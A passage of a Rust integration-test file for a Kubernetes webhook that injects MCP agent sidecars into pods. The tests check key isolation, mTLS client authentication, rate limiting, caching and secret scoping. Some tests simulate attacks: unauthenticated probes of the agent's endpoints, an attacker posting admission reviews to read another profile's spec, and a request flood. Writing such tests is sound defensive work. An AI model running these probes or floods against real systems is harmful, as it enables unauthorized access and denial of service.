                (None, None) if value_from.is_none() => String::new(),
                _ => panic!("{}: env {name} needs a Secret, which this test does not provide", container.name),
            };
            // The sidecars' uids (`<server>=<uid>`) are this test's own: it runs every container.
            let value = if name == ENV_SIDECAR_SERVERS {
                let me = rustix::process::getuid().as_raw();
                value
                    .split(',')
                    .map(|e| format!("{}={me}", e.split('=').next().unwrap_or(e)))
                    .collect::<Vec<_>>()
                    .join(",")
            } else {
                value
            };
            env.push((name.clone(), self.path(&value)));
        }
        env.push(("KUBECONFIG".into(), self.kubeconfig.display().to_string()));
        // This test's pod network is loopback, which an agent in a pod denies by default; the
        // operator gives agents their list the same way (`--agent-egress-deny-cidrs`).
        if !env.iter().any(|(name, _)| name == "SPEAR_EGRESS_DENY_CIDRS") {
            let local = spear::egress::AddressDenyList::AGENT_LOCAL.to_string();
            env.push(("SPEAR_EGRESS_DENY_CIDRS".into(), local));
        }
        env
    }

    /// The container's command and args as the kubelet runs them, paths rewritten, and the
    /// peer uid the bridge expects rewritten to this test's own (every local process runs as it).
    fn argv(&self, container: &Container) -> Vec<String> {
        let env = self.env(container);
        let mut argv: Vec<String> = container
            .command
            .iter()
            .flatten()
            .chain(container.args.iter().flatten())
            .map(|a| self.path(&expand(a, &env)))
            .collect();
        if let Some(i) = argv.iter().position(|a| a == "--peer-uid") {
            argv[i + 1] = rustix::process::getuid().as_raw().to_string();
        }
        argv
    }

    fn spawn(&self, container: &Container) -> tokio::process::Child {
        let argv = self.argv(container);
        tokio::process::Command::new(&argv[0])
            .args(&argv[1..])
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .envs(self.env(container))
            .stdin(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap_or_else(|e| panic!("starting {}'s command {argv:?} failed: {e}", container.name))
    }
}

/// The kubelet's expansion: `$(NAME)` of a variable defined before, `$$` as `$`.
fn expand(value: &str, env: &[(String, String)]) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        if let Some(after) = tail.strip_prefix("$$") {
            out.push('$');
            rest = after;
        } else if let Some((name, after)) = tail.strip_prefix("$(").and_then(|t| t.split_once(')')) {
            match env.iter().rev().find(|(n, _)| n == name) {
                Some((_, v)) => out.push_str(v),
                None => out.push_str(&tail[..name.len() + 3]),
            }
            rest = after;
        } else {
            out.push('$');
            rest = &tail[1..];
        }
    }
    out.push_str(rest);
    out
}

#[tokio::test]
async fn injected_agent_and_bridge_serve_a_tool_call_as_local_processes() {
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-local").await;
    let ports = Ports { http: free_port(), grpc: free_port(), admin: free_port() };
    let inject = InjectConfig { ports, ..inject_config() };
    let _webhook = Webhook::start(&ns, inject).await;

    let fixture = mcp_servers::fixture_stdio(&[]);
    let server = McpServer::test("fixture").running(&fixture).image("python:3.13-slim").allowing(["*"]);
    create(&ns.api::<McpServer>(), &server).await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["fixture"])).await;
    // The app passes the pod's key on as the OpenAI SDK's variable, by the kubelet's expansion.
    let mut app_pod = app_pod("app", &[(ANNOTATION_PROFILE, "dev")]);
    if let Some(spec) = app_pod.spec.as_mut() {
        spec.containers[0].env = Some(vec![EnvVar {
            name: "OPENAI_API_KEY".into(),
            value: Some(format!("$({ENV_API_KEY})")),
            ..Default::default()
        }]);
    }
    let pod = create(&ns.api::<Pod>(), &app_pod).await;
    let spec = pod.spec.clone().expect("a stored pod has a spec");
    let all: Vec<&Container> = spec.init_containers.iter().flatten().chain(&spec.containers).collect();
    let find = |name: &str| *all.iter().find(|c| c.name == name).unwrap_or_else(|| panic!("no container {name}"));

    // Not under /tmp: the sidecar's /tmp mount is rewritten by prefix, and must not match it.
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("a temp dir");
    let local = LocalPod::new(dir.path(), &pod, control_plane, BTreeMap::new());
    // The run dir holds one volume per server (what the kubelet mounts at /spear/run/<server>).
    std::fs::create_dir(local.run.join("fixture")).expect("creating a volume dir");
    // The kubelet runs the spear-init container first: the spearlet installs itself into the
    // bin volume (the image has no `cp`), where the containers below run it.
    let init = local.spawn(find(INIT_CONTAINER)).wait().await.expect("spear-init runs");
    assert!(init.success(), "spear-init failed: {init}");

    let _bridge = local.spawn(find(&format!("{SIDECAR_PREFIX}fixture")));
    wait_for("the bridge socket", || async { local.run.join("fixture").join("mcp.sock").exists() }).await;
    let _agent = local.spawn(find(AGENT_CONTAINER));
    assert!(mcp_servers::wait_for_http(ports.http, READY_TIMEOUT).await, "the agent listens on its HTTP port");

    // The app container's view: SPEAR_MCP_URL and the pod's key from its injected env.
    let app_env = local.env(find("app"));
    let var = |name: &str| app_env.iter().find(|(n, _)| n == name).map(|(_, v)| v.clone());
    let url = var(ENV_MCP_URL).expect("SPEAR_MCP_URL is set");
    assert_eq!(url, format!("http://127.0.0.1:{}/mcp", ports.http));
    let key = var(ENV_API_KEY).expect("SPEAR_API_KEY is set in the app");
    assert_eq!(var("OPENAI_API_KEY").as_ref(), Some(&key), "$(SPEAR_API_KEY) expands in the app's own env");
    assert_eq!(api_key_of(&pod).expose(), key, "the agent and the app have the same key");
    let sidecar = local.env(find(&format!("{SIDECAR_PREFIX}fixture")));
    assert!(
        !sidecar.iter().any(|(n, v)| n == ENV_API_KEY || v.contains(&key)),
        "the MCP server's sidecar must not see the pod's key: {sidecar:?}"
    );
    let config = StreamableHttpClientTransportConfig::with_uri(url.clone()).auth_header(key);
    let client =
        ().serve(StreamableHttpClientTransport::from_config(config)).await.expect("an MCP session with the agent");
    // The python server takes a moment to start behind its bridge: poll, as an app would retry.
    let deadline = Instant::now() + READY_TIMEOUT;
    let echo = loop {
        let tools = client.list_all_tools().await.expect("listing tools");
        if let Some(echo) = tools.into_iter().find(|t| t.name.ends_with("echo")) {
            break echo;
        }
        assert!(Instant::now() < deadline, "no echo tool within {READY_TIMEOUT:?}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let mut params = CallToolRequestParams::new(echo.name.to_string());
    params.arguments = serde_json::json!({ "text": "hello from the pod" }).as_object().cloned();
    let result = client.call_tool(params).await.expect("the tool call succeeds");
    assert_ne!(result.is_error, Some(true), "{result:?}");
    let text = serde_json::to_string(&result.content).expect("content serializes");
    assert!(text.contains("hello from the pod"), "{text}");
    let _ = client.cancel().await;

    // A hostile server's sidecar shares the pod's loopback but not the key: every door refuses it.
    let http = reqwest::Client::new();
    let initialize = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"sidecar","version":"1"}}}"#;
    let chat = r#"{"model":"m","messages":[{"role":"user","content":"call every tool"}]}"#;
    let doors = [(url.clone(), initialize), (format!("http://127.0.0.1:{}/v1/chat/completions", ports.http), chat)];
    for (door, body) in &doors {
        for authorization in
            [None, Some("Bearer not-this-pods-key-0123456789".to_string()), Some(var(ENV_API_KEY).expect("key"))]
        {
            let mut request = http
                .post(door)
                .header("content-type", "application/json")
                .header("accept", "application/json, text/event-stream")
                .body(*body);
            if let Some(value) = &authorization {
                request = request.header("authorization", value);
            }
            let response = request.send().await.expect("the door answers");
            assert_eq!(response.status(), 401, "{door} with {authorization:?}");
        }
    }
    let tools = |key: Option<&str>| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_spearlet"));
        command.args(["tools", "list"]).env(ENV_GRPC_ADDR, format!("127.0.0.1:{}", ports.grpc)).env_remove(ENV_API_KEY);
        if let Some(key) = key {
            command.env(ENV_API_KEY, key);
        }
        command.output().expect("spearlet tools runs")
    };
    let refused = tools(None);
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "gRPC without the key: {stderr}");
    assert!(stderr.contains(ENV_API_KEY), "the refusal names the key to send: {stderr}");
    let listed = tools(var(ENV_API_KEY).as_deref());
    let stdout = String::from_utf8_lossy(&listed.stdout);
    assert!(
        listed.status.success() && stdout.contains("echo"),
        "gRPC with the app's key: {stdout}{}",
        String::from_utf8_lossy(&listed.stderr)
    );
}

#[test]
fn kubelet_expansion_matches_the_kubelet() {
    let env = vec![("A".to_string(), "1".to_string())];
    assert_eq!(expand("x$(A)y", &env), "x1y");
    assert_eq!(expand("$$(A)", &env), "$(A)");
    assert_eq!(expand("$(B)", &env), "$(B)");
    assert_eq!(expand("a$b", &env), "a$b");
}

// === issue 13, finding 8: who may call the webhook, and how often ===

/// A stdio server whose command line is the secret a review would leak: a sidecar's args are in
/// the patch, so whoever gets the review of a pod naming its profile reads them.
const LEAK_MARKER: &str = "--internal-endpoint=https://payroll.corp.internal:8443/mcp";

/// The serving CA of the webhook started by [`Webhook::start`] in `ns` (its Secret's `ca.crt`).
async fn serving_ca(ns: &TestNamespace) -> Vec<u8> {
    let name = SelfSigned::new(&ns.name, SERVICE).secret_name;
    let secret = ns.api::<Secret>().get(&name).await.expect("the webhook's certificate Secret exists");
    secret.data.unwrap_or_default().get(SECRET_CA_CERT).expect("the Secret holds ca.crt").0.clone()
}

/// The AdmissionReview an attacker would post: a pod of namespace `namespace` naming `profile`.
fn admission_review(namespace: &str, profile: &str) -> Vec<u8> {
    let pod = app_pod("stolen", &[(ANNOTATION_PROFILE, profile)]);
    spear::testing::fixtures::pod_create_review("0d1e2f30-0000-4000-8000-000000000001", namespace, "attacker", &pod)
}

/// A client identity: certificate chain and key, PEM.
type Identity = (String, String);

/// Posts `body` to the webhook at `127.0.0.1:port` over TLS (trusting `ca`), from `source` (a
/// loopback address), presenting `identity` if given. `Ok` with whatever the server sent back
/// (empty if it closed without answering), `Err` with the first failure of the exchange.
async fn post_review(
    port: u16,
    ca: &[u8],
    source: Ipv4Addr,
    identity: Option<&Identity>,
    body: &[u8],
) -> Result<Vec<u8>, String> {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    spear::install_crypto_provider();
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_slice_iter(ca) {
        roots.add(cert.expect("ca.crt is PEM")).expect("ca.crt holds CA certificates");
    }
    let builder = rustls::ClientConfig::builder().with_root_certificates(roots);
    let config = match identity {
        Some((cert, key)) => {
            let chain = CertificateDer::pem_slice_iter(cert.as_bytes()).collect::<Result<Vec<_>, _>>().expect("PEM");
            let key = rustls::pki_types::PrivateKeyDer::from_pem_slice(key.as_bytes()).expect("a PEM key");
            builder.with_client_auth_cert(chain, key).expect("a usable client certificate")
        }
        None => builder.with_no_client_auth(),
    };
    let socket = tokio::net::TcpSocket::new_v4().expect("a socket");
    socket.bind(SocketAddr::from((source, 0))).expect("binding a loopback source address");
    let tcp = socket.connect(SocketAddr::from((Ipv4Addr::LOCALHOST, port))).await.map_err(|e| e.to_string())?;
    let name = ServerName::try_from("127.0.0.1").expect("an IP address is a server name");
    let exchange = async {
        let mut tls = tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, tcp).await?;
        // One write, so head and body travel together: a server that answers without reading
        // the body (429) then closes with nothing unread, which would otherwise be a reset.
        let mut request = format!(
            "POST {MUTATE_PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .into_bytes();
        request.extend_from_slice(body);
        tls.write_all(&request).await?;
        tls.flush().await?;
        let mut answer = Vec::new();
        let mut chunk = [0u8; 4096];
        loop {
            match tls.read(&mut chunk).await {
                Ok(0) => return Ok(answer),
                Ok(n) => answer.extend_from_slice(&chunk[..n]),
                // A close without close_notify after a whole answer is still that answer.
                Err(_) if !answer.is_empty() => return Ok(answer),
                Err(error) => return Err(error),
            }
        }
    };
    match tokio::time::timeout(Duration::from_secs(10), exchange).await {
        Ok(result) => result.map_err(|e| e.to_string()),
        Err(_) => Err("no answer within 10 s".to_string()),
    }
}

/// A webhook requiring the test API server's webhook client certificate, by CA and name; its
/// port and metrics.
async fn start_with_client_auth(ns: &TestNamespace) -> (Webhook, u16, WebhookMetrics) {
    let control_plane = ControlPlane::shared();
    let auth = ClientAuth::new(control_plane.webhook_client_ca_path(), vec![WEBHOOK_CLIENT_NAME.to_string()]);
    let metrics = WebhookMetrics::default();
    let (webhook, port) = Webhook::start_with(ns, inject_config(), |config| {
        config.client_auth = Some(auth);
        config.metrics = metrics.clone();
    })
    .await;
    (webhook, port, metrics)
}

/// Issue 13, finding 8 (client certificates), the legitimate path: with
/// `--webhook-client-ca-file` and `--webhook-client-names`, the real API server presents its
/// webhook client certificate (from its admission configuration) and pods are injected.
#[tokio::test]
async fn with_client_auth_on_the_api_server_presents_its_certificate_and_pods_are_injected() {
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-mtls").await;
    let (webhook, _, metrics) = start_with_client_auth(&ns).await;
    create(&ns.api::<McpServer>(), &McpServer::test("remote").http("https://mcp.example.com/mcp").allowing(["*"]))
        .await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["remote"])).await;

    let admitted = create(&ns.api::<Pod>(), &app_pod("app", &[(ANNOTATION_PROFILE, "dev")])).await;

    let annotations = admitted.metadata.annotations.clone().unwrap_or_default();
    assert!(annotations.contains_key(ANNOTATION_INJECTED), "the pod was injected: {annotations:?}");
    let spec = admitted.spec.expect("a stored pod has a spec");
    assert!(spec.init_containers.iter().flatten().any(|c| c.name == AGENT_CONTAINER), "the agent is injected");
    assert_eq!(metrics.handshake_failures("client_certificate"), 0, "the API server's certificate was accepted");
    drop(webhook);
}

/// Issue 13, finding 8 (client certificates), the attack: anyone who reaches the webhook's port
/// posts an AdmissionReview naming another namespace's profile, to read the patch (sidecar
/// images, commands, Secret names). Without a certificate, with one from another CA, or with
/// one from the right CA but not the API server's name, the TLS handshake is refused: no HTTP
/// answer, nothing of the server's spec. The same request with the API server's identity gets
/// the review (so the refusals are what keeps the spec in).
#[tokio::test]
async fn a_caller_without_the_api_servers_certificate_gets_no_review_and_no_server_spec() {
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-mtls-attack").await;
    let (webhook, port, metrics) = start_with_client_auth(&ns).await;
    let secret_server = McpServer::test("payroll")
        .stdio("python", ["payroll_server.py", LEAK_MARKER])
        .image("registry.corp.internal/payroll-mcp:3")
        .allowing(["*"]);
    create(&ns.api::<McpServer>(), &secret_server).await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["payroll"])).await;
    let ca = serving_ca(&ns).await;
    let review = admission_review(&ns.name, "dev");
    let attacker = Ipv4Addr::new(127, 0, 0, 3);

    // Control: the API server's own identity gets the review, and the review carries the spec.
    let api_server = control_plane.webhook_client_identity();
    let answer = post_review(port, &ca, Ipv4Addr::LOCALHOST, Some(&api_server), &review)
        .await
        .expect("the API server's identity is served");
    let answer = String::from_utf8_lossy(&answer).into_owned();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let body = answer.split_once("\r\n\r\n").map(|(_, body)| body).unwrap_or_default();
    let reviewed: serde_json::Value =
        serde_json::from_str(body).unwrap_or_else(|e| panic!("a JSON review: {e}: {answer}"));
    // kube serializes the patch bytes as a JSON array of numbers (which Go decodes into []byte).
    let patch: Vec<u8> = serde_json::from_value(reviewed["response"]["patch"].clone()).expect("a patch");
    assert!(String::from_utf8_lossy(&patch).contains(LEAK_MARKER), "the control review carries the spec");

    let other_ca = TestCa::new();
    let foreign = {
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("params");
        params.distinguished_name.push(rcgen::DnType::CommonName, WEBHOOK_CLIENT_NAME);
        params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ClientAuth];
        let key = rcgen::KeyPair::generate().expect("a key");
        (params.signed_by(&key, &other_ca.issuer).expect("a certificate").pem(), key.serialize_pem())
    };
    let kubelet = control_plane.issue_webhook_client_cert("system:node:worker-1");
    let attempts: [(&str, Option<&Identity>); 3] = [
        ("no certificate", None),
        ("a certificate of another CA, with the API server's name", Some(&foreign)),
        ("a certificate of the trusted CA with another name", Some(&kubelet)),
    ];
    for (what, identity) in attempts {
        let result = post_review(port, &ca, attacker, identity, &review).await;
        let answer = match &result {
            Ok(bytes) => String::from_utf8_lossy(bytes).into_owned(),
            Err(error) => error.clone(),
        };
        assert!(result.is_err() || answer.is_empty(), "{what}: the handshake must be refused, got an answer: {answer}");
        assert!(!answer.contains("HTTP/"), "{what}: no HTTP exchange: {answer}");
        assert!(!answer.contains(LEAK_MARKER) && !answer.contains("payroll"), "{what}: nothing of the spec: {answer}");
    }
    assert_eq!(metrics.handshake_failures("client_certificate"), 3, "each refusal is counted");
    drop(webhook);
}

/// Issue 13, finding 8 (rate limit): one source flooding the webhook (here 127.0.0.2; the API
/// server calls from 127.0.0.1) gets 429 with Retry-After once its burst is spent, answered
/// before the body is read (the flood's bodies are not JSON: served ones get 400 from the
/// parser, limited ones never reach it); meanwhile pods created through the API server are
/// still injected.
#[tokio::test]
async fn a_flooding_source_gets_429s_while_the_api_server_is_still_served() {
    const FLOOD: usize = 40;
    const BURST: u32 = 10;
    const PER_SECOND: u32 = 2;
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-flood").await;
    let metrics = WebhookMetrics::default();
    let (webhook, port) = Webhook::start_with(&ns, inject_config(), |config| {
        config.rate_limit = RateLimit { per_second: PER_SECOND, burst: BURST };
        config.metrics = metrics.clone();
    })
    .await;
    create(&ns.api::<McpServer>(), &McpServer::test("remote").http("https://mcp.example.com/mcp").allowing(["*"]))
        .await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["remote"])).await;
    let ca = serving_ca(&ns).await;

    let flooder = Ipv4Addr::new(127, 0, 0, 2);
    let started = Instant::now();
    let (mut parsed, mut limited) = (0usize, 0usize);
    for _ in 0..FLOOD {
        let answer = post_review(port, &ca, flooder, None, b"not an admission review")
            .await
            .expect("the webhook answers the flood (no client auth here)");
        let answer = String::from_utf8_lossy(&answer).into_owned();
        let head = answer.split("\r\n\r\n").next().unwrap_or_default().to_ascii_lowercase();
        if head.starts_with("http/1.1 429") {
            let retry_after = head
                .lines()
                .find_map(|l| l.strip_prefix("retry-after: "))
                .and_then(|v| v.trim().parse::<u64>().ok())
                .unwrap_or_else(|| panic!("a 429 carries Retry-After in seconds: {answer}"));
            assert!(retry_after >= 1, "{answer}");
            assert!(!answer.contains("AdmissionReview"), "a limited request is never parsed: {answer}");
            limited += 1;
        } else {
            assert!(head.starts_with("http/1.1 400"), "a served flood request is parsed and refused: {answer}");
            parsed += 1;
        }
    }
    let elapsed = started.elapsed().as_secs_f64();
    // The burst, plus what the sustained rate refilled while the flood ran.
    let allowed = usize::try_from(BURST).expect("small") + (f64::from(PER_SECOND) * elapsed).ceil() as usize;
    assert!(parsed <= allowed, "{parsed} flood requests served in {elapsed:.2} s; at most {allowed} allowed");
    assert!(limited >= FLOOD - allowed, "{limited} of {FLOOD} limited in {elapsed:.2} s");
    assert_eq!(metrics.rate_limited_count(), limited as u64, "every 429 is counted");

    // The API server (another source) is not throttled by the flood.
    for _ in 0..3 {
        let admitted = create(&ns.api::<Pod>(), &app_pod("app", &[(ANNOTATION_PROFILE, "dev")])).await;
        let annotations = admitted.metadata.annotations.unwrap_or_default();
        assert!(annotations.contains_key(ANNOTATION_INJECTED), "injected despite the flood: {annotations:?}");
    }
    println!("flood: {parsed} served, {limited} answered 429 in {elapsed:.2} s");
    drop(webhook);
}

// === caches (issue 18) ===

/// A store that has listed (ready) and holds exactly `objects`.
fn listed_store<K>(objects: Vec<K>) -> kube::runtime::reflector::Store<K>
where
    K: kube::Resource<DynamicType = ()> + Clone + 'static,
{
    use kube::runtime::watcher::Event;
    let (store, mut writer) = kube::runtime::reflector::store::<K>();
    writer.apply_watcher_event(&Event::Init);
    for object in objects {
        writer.apply_watcher_event(&Event::InitApply(object));
    }
    writer.apply_watcher_event(&Event::InitDone);
    store
}

/// The names of the servers the looked-up profile resolves to, sorted.
fn selected(inputs: &webhook::Inputs) -> Vec<String> {
    let profile = inputs.profile.as_ref().expect("the profile was found");
    let mut names: Vec<String> =
        inputs.servers.iter().filter(|s| profile.selects(s)).filter_map(|s| s.metadata.name.clone()).collect();
    names.sort();
    names
}

/// `kubectl apply -f profile.yaml -f pod.yaml`: the pod's review can arrive before this
/// replica's watch delivered the profile and its servers. The stores below have listed but hold
/// none of them (the moment in between, made deterministic); the lookup reads them through from
/// the API server instead of denying a pod whose profile "does not exist", and counts the misses.
#[tokio::test]
async fn objects_created_a_moment_ago_are_read_through_a_cache_miss() {
    use spear::operator::webhook::{CachedLookup, KubeLookup, Lookup as _};

    let ns = ControlPlane::shared().namespace("webhook-cache-miss").await;
    let namespace = Api::<Namespace>::all(ns.client.clone()).get(&ns.name).await.expect("the test namespace");
    let fs = McpServer::test("fs").stdio("npx", ["server-filesystem"]).image("node:22-slim").allowing(["*"]);
    let remote = McpServer::test("remote").http("https://mcp.example.com/mcp").allowing(["*"]);
    let labelled = McpServer::test("picked").http("https://picked.example.com/mcp").label("team", "x").allowing(["*"]);
    for server in [&fs, &remote, &labelled] {
        create(&ns.api::<McpServer>(), server).await;
    }
    let profile =
        create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["fs", "remote"]).selecting("team", "x"))
            .await;
    let direct = || KubeLookup::new(ns.client.clone(), Duration::from_secs(3));

    // The profile is a miss: it and everything it resolves to come from the API server.
    let metrics = WebhookMetrics::default();
    let lookup = CachedLookup::from_stores(
        listed_store(vec![namespace.clone()]),
        listed_store(Vec::new()),
        listed_store(Vec::new()),
        direct(),
        metrics.clone(),
    );
    let inputs = lookup.fetch(&ns.name, Some("dev")).await.expect("the lookup");
    assert_eq!(
        inputs.profile.as_ref().map(|p| p.spec.servers.clone()),
        Some(vec!["fs".to_string(), "remote".to_string()])
    );
    assert_eq!(selected(&inputs), ["fs", "picked", "remote"]);
    assert_eq!(metrics.read_through_count("McpProfile"), 1);
    assert_eq!(metrics.read_through_count("Namespace"), 0, "the namespace was in the store");

    // The profile is cached but a named server is not: that server alone is read through, the
    // selected one comes from the store.
    let metrics = WebhookMetrics::default();
    let stored_picked = ns.api::<McpServer>().get("picked").await.expect("picked");
    let stored_remote = ns.api::<McpServer>().get("remote").await.expect("remote");
    let lookup = CachedLookup::from_stores(
        listed_store(Vec::new()),
        listed_store(vec![profile.clone()]),
        listed_store(vec![stored_picked, stored_remote]),
        direct(),
        metrics.clone(),
    );
    let inputs = lookup.fetch(&ns.name, Some("dev")).await.expect("the lookup");
    assert_eq!(selected(&inputs), ["fs", "picked", "remote"]);
    assert_eq!(metrics.read_through_count("McpServer"), 1, "only fs was missing");
    assert_eq!(metrics.read_through_count("Namespace"), 1, "a namespace created a moment ago");
    assert_eq!(
        inputs.namespace_labels,
        Api::<Namespace>::all(ns.client.clone()).get(&ns.name).await.expect("ns").metadata.labels.unwrap_or_default()
    );

    // A profile that really does not exist is still absent (and the pod will be denied).
    let inputs = lookup.fetch(&ns.name, Some("nope")).await.expect("the lookup");
    assert!(inputs.profile.is_none());
    assert_eq!(metrics.read_through_count("McpProfile"), 1);
}

/// The webhook answers from its caches once they listed (no read-through for a profile that
/// exists), and an edit of the profile reaches the injection within a second.
#[tokio::test]
async fn the_webhook_answers_from_its_caches_and_sees_a_profile_edit_within_a_second() {
    let ns = ControlPlane::shared().namespace("webhook-cache-edit").await;
    let fs = McpServer::test("fs").stdio("npx", ["server-filesystem"]).image("node:22-slim").allowing(["*"]);
    let git = McpServer::test("git").stdio("uvx", ["mcp-server-git"]).image("python:3.13-slim").allowing(["*"]);
    create(&ns.api::<McpServer>(), &fs).await;
    create(&ns.api::<McpServer>(), &git).await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["fs"])).await;
    let metrics = WebhookMetrics::default();
    let (webhook, _) = Webhook::start_with(&ns, inject_config(), |config| config.metrics = metrics.clone()).await;
    let deadline = Instant::now() + READY_TIMEOUT;
    while !metrics.caches_synced() {
        assert!(Instant::now() < deadline, "the webhook's caches never listed");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let sidecars = |pod: &Pod| -> Vec<String> {
        let spec = pod.spec.as_ref().expect("a stored pod has a spec");
        spec.init_containers
            .iter()
            .flatten()
            .map(|c| c.name.clone())
            .filter(|n| n.starts_with(SIDECAR_PREFIX))
            .collect()
    };
    let dry_run = PostParams { dry_run: true, ..PostParams::default() };
    let pod = app_pod("app", &[(ANNOTATION_PROFILE, "dev")]);
    let first = ns.api::<Pod>().create(&dry_run, &pod).await.expect("admitted");
    assert_eq!(sidecars(&first), [format!("{SIDECAR_PREFIX}fs")]);
    let before = metrics.read_through_count("McpProfile") + metrics.read_through_count("McpServer");

    let edit = serde_json::json!({ "spec": { "servers": ["fs", "git"] } });
    ns.api::<McpProfile>()
        .patch("dev", &PatchParams::default(), &Patch::Merge(&edit))
        .await
        .expect("editing the profile");
    let edited = Instant::now();
    let seen = loop {
        let admitted = ns.api::<Pod>().create(&dry_run, &pod).await.expect("admitted");
        if sidecars(&admitted).len() == 2 {
            break edited.elapsed();
        }
        assert!(
            edited.elapsed() < Duration::from_secs(1),
            "the edit was not injected within 1 s: {:?}",
            sidecars(&admitted)
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    };
    let after = metrics.read_through_count("McpProfile") + metrics.read_through_count("McpServer");
    assert_eq!(after, before, "answered from the caches, without reading through");
    eprintln!("profile edit reached the webhook after {seen:?}");
    drop(webhook);
}

/// A Secret value granted to an McpServer goes only where it was granted to go: an edit that
/// moves the server's URL after the pod was admitted leaves it unsent (the server is unavailable,
/// saying to recreate the pod), where running agents used to follow the edit with the Secret.
#[tokio::test]
async fn a_server_moved_after_admission_gets_none_of_the_pods_credentials() {
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-moved").await;
    let ports = Ports { http: free_port(), grpc: free_port(), admin: free_port() };
    let _webhook = Webhook::start(&ns, InjectConfig { ports, ..inject_config() }).await;

    const SECRET_VALUE: &str = "granted-for-the-first-url-only";
    let mut secret = Secret {
        metadata: ObjectMeta {
            name: Some("web-token".into()),
            annotations: Some([(ANNOTATION_ALLOWED_SERVERS.to_string(), "web".to_string())].into()),
            ..Default::default()
        },
        ..Default::default()
    };
    secret.string_data = Some([("token".to_string(), SECRET_VALUE.to_string())].into());
    create(&ns.api::<Secret>(), &secret).await;
    let granted_port = free_port();
    let _granted = tokio::process::Command::from(mcp_servers::fixture_http(granted_port, &[]).to_std())
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("the granted server starts");
    assert!(mcp_servers::wait_for_http(granted_port, READY_TIMEOUT).await, "the granted server listens");
    let server =
        McpServer::test("web").http_at(granted_port).secret_header("x-token", "web-token", "token").allowing(["*"]);
    create(&ns.api::<McpServer>(), &server).await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["web"])).await;
    let pod = create(&ns.api::<Pod>(), &app_pod("app", &[(ANNOTATION_PROFILE, "dev")])).await;
    let spec = pod.spec.clone().expect("a stored pod has a spec");
    let agent = spec
        .init_containers
        .iter()
        .flatten()
        .chain(&spec.containers)
        .find(|c| c.name == AGENT_CONTAINER)
        .expect("the agent");

    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("a temp dir");
    let secrets = [(("web-token".to_string(), "token".to_string()), SECRET_VALUE.to_string())].into();
    let local = LocalPod::new(dir.path(), &pod, control_plane, secrets);
    let init = spec.init_containers.iter().flatten().find(|c| c.name == INIT_CONTAINER).expect("spear-init");
    assert!(local.spawn(init).wait().await.expect("spear-init runs").success());
    let _agent = local.spawn(agent);
    assert!(mcp_servers::wait_for_http(ports.http, READY_TIMEOUT).await, "the agent listens");
    let key = local.env(agent).into_iter().find(|(n, _)| n == ENV_API_KEY).map(|(_, v)| v).expect("the pod's key");
    let url = format!("http://127.0.0.1:{}/mcp", ports.http);
    let config = StreamableHttpClientTransportConfig::with_uri(url).auth_header(key);
    let client = ().serve(StreamableHttpClientTransport::from_config(config)).await.expect("an MCP session");
    let echo = |text: &'static str| {
        let mut params = CallToolRequestParams::new("mcp__web__echo");
        params.arguments = serde_json::json!({ "text": text }).as_object().cloned();
        client.call_tool(params)
    };
    let deadline = Instant::now() + READY_TIMEOUT;
    loop {
        match echo("before the edit").await {
            Ok(result) if result.is_error != Some(true) => break,
            other => assert!(Instant::now() < deadline, "the granted server's echo never answered: {other:?}"),
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    // The McpServer's editor points it at their own listener.
    let elsewhere = std::net::TcpListener::bind("127.0.0.1:0").expect("bind the new destination");
    elsewhere.set_nonblocking(true).expect("nonblocking");
    let moved_to = format!("http://{}/mcp", elsewhere.local_addr().expect("addr"));
    let patch = serde_json::json!({"spec": {"http": {"url": moved_to}}});
    ns.api::<McpServer>().patch("web", &PatchParams::default(), &Patch::Merge(&patch)).await.expect("the edit");
    let deadline = Instant::now() + READY_TIMEOUT;
    let refusal = loop {
        let text = match echo("after the edit").await {
            Ok(result) => serde_json::to_string(&result.content).unwrap_or_default(),
            Err(e) => e.to_string(),
        };
        if text.contains("recreate the pod") {
            break text;
        }
        assert!(Instant::now() < deadline, "the moved server was never refused: {text}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert!(refusal.contains("granted for the old destination"), "{refusal}");
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert!(
        matches!(elsewhere.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the agent connected to the moved server's new URL, with the Secret granted for the old one"
    );
    let _ = client.cancel().await;
}
